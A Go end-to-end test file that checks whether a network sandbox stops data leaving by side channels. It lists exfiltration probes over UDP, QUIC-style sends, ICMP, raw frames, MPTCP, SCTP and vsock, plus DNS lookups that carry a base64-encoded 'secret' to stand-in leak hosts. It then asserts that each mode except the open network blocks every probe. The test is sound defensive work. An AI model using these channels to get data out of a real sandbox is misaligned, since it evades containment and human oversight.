//go:build linux

package e2e

import (
	"slices"
	"strings"
	"testing"
)

// probe is one way to send something, and how the capture names what it sends.
type probe struct {
	args   []string
	leaves string
	open   bool // leaves from a run with the open network
}

// probes are the ways that a program has to get a byte out without connecting
// by TCP to a name.
var probes = []probe{
	{[]string{"udp", "93.184.216.10:123"}, "udp 93.184.216.10:123", true},
	{[]string{"udp", "93.184.216.10:443"}, "udp 93.184.216.10:443", true}, // as QUIC does
	{[]string{"udp", "[2606:2800:220::10]:443"}, "udp [2606:2800:220::10]:443", true},
	{[]string{"query", nameServerAt + ":53", "TXT", "c2VjcmV0.direct.leak.example."}, "dns c2vjcmv0.direct.leak.example", true},
	{[]string{"lookup", "c2VjcmV0.lookup.leak.example"}, "dns c2vjcmv0.lookup.leak.example", true},
	{[]string{"lookup", "c2VjcmV0.api.example.com"}, "dns c2vjcmv0.api.example.com", true},
	{[]string{"ping", "93.184.216.10"}, "icmp 93.184.216.10", true},
	{[]string{"ping", "2606:2800:220::10"}, "icmp6 type 128 2606:2800:220::10", true},
	{[]string{"dial", "tcp", "93.184.216.10:8080"}, "tcp 93.184.216.10:8080", true},
	{[]string{"dial", "tcp", "[2606:2800:220::10]:8080"}, "tcp [2606:2800:220::10]:8080", true},
	{[]string{"dial", "tcp", "[64:ff9b::5db8:d80a]:8080"}, "tcp [64:ff9b::5db8:d80a]:8080", true},
	{[]string{"rawicmp", "93.184.216.11"}, "icmp 93.184.216.11", false},
	{[]string{"frame"}, "ether-88b5", false},
	{[]string{"stream", "262", "93.184.216.12:8080"}, "tcp 93.184.216.12:8080", false}, // MPTCP
	{[]string{"stream", "132", "93.184.216.13:8080"}, "sctp 93.184.216.13:8080", false},
	{[]string{"vsock"}, "", false},
	{[]string{"routes"}, "", false},
}

// absent are protocols that a kernel may not have; then there is no canary.
var absent = []string{"EPROTONOSUPPORT", "ESOCKTNOSUPPORT", "EAFNOSUPPORT", "ENODEV"}

// commands joins probes to one command line of the attacking program.
func commands(list []probe) []string {
	var args []string
	for _, p := range list {
		args = append(append(args, p.args...), "--")
	}
	return args[:len(args)-1]
}

// TestNothingLeaks: the capture beside the cable sees what is sent without
// walls and in a run with the open network; from all others it sees nothing but
// the one connection that is listed, and the question for its name.
func TestNothingLeaks(t *testing.T) {
	eachPerson(t, func(t *testing.T, p person) {
		n := newInternet(t)
		w := n.world(p)
		n.name("api.example.com", "c2VjcmV0.direct.leak.example", "c2VjcmV0.lookup.leak.example", "c2VjcmV0.api.example.com")
		n.leakCanaries(w)
		open := slices.DeleteFunc(slices.Clone(probes), func(p probe) bool { return !p.open })
		n.cable.start()
		w.attack([]string{"--network", "open"}, commands(open)...)
		seen := n.cable.seen()
		for _, p := range open {
			if !slices.Contains(seen, p.leaves) {
				t.Errorf("--network open: %q is not seen outside: %q", p.args, seen)
			}
		}
		for _, mode := range []string{"closed", "local", "filtered"} {
			for _, nested := range []string{"none", "userns", "full"} {
				n.leaks(w, mode, nested)
			}
		}
	})
}

// leakCanaries makes sure that each probe works, and is seen, where nothing
// holds it: as root outside.
func (n *internet) leakCanaries(w *world) {
	n.t.Helper()
	root := *w
	root.who = person{"root", 0, 0}
	n.cable.start()
	said := strings.Split(root.canary(commands(probes)...), "\n")
	seen := n.cable.seen()
	for i, p := range probes {
		if slices.Contains(absent, said[i]) {
			n.t.Logf("%q: this kernel has no such thing: %s", p.args, said[i])
		} else if !strings.HasPrefix(said[i], "ok") || p.leaves != "" && !slices.Contains(seen, p.leaves) {
			n.t.Fatalf("canary: %q outside gives %q, seen: %q", p.args, said[i], seen)
		}
	}
}

// leaks tries all probes in a run and wants none to succeed or to be seen.
func (n *internet) leaks(w *world, mode, nested string) {
	n.t.Helper()
	flags := []string{"--network", mode, "--nested", nested}
	list := slices.Clone(probes)
	listed := []string{}
	if mode == "filtered" {
		flags = append(flags, "--allow-host", "api.example.com")
		list = append(list, probe{args: []string{"get", "https://api.example.com/"}})
		listed = append(listed, "dns api.example.com", n.web443("api.example.com"))
	}
	n.cable.start()
	n.names.questions()
	for i, got := range strings.Split(w.attack(flags, commands(list)...), "\n") {
		last := mode == "filtered" && i == len(list)-1
		if strings.HasPrefix(got, "ok") != last || strings.Contains(got, "slow") {
			n.t.Errorf("%q: %q gives %q", flags, list[i].args, got)
		}
	}
	n.cable.only(strings.Join(flags, " "), listed...)
	for _, q := range n.names.questions() {
		if mode != "filtered" || !strings.HasSuffix(q, " api.example.com") {
			n.t.Errorf("%q: the name server outside was asked %q", flags, q)
		}
	}
}
